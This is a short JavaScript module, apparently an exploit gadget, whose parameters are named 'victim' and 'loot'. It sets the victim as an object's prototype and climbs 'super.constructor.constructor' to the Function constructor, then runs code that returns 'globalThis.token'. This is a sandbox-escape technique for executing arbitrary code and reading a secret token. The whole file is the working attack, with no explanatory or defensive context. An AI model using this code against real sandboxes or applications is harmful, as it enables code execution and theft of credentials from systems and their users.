module.exports = (victim, loot) => {
  return ({ __proto__: victim, m() { return super.constructor.constructor('return globalThis.token')(); } }).m();
};
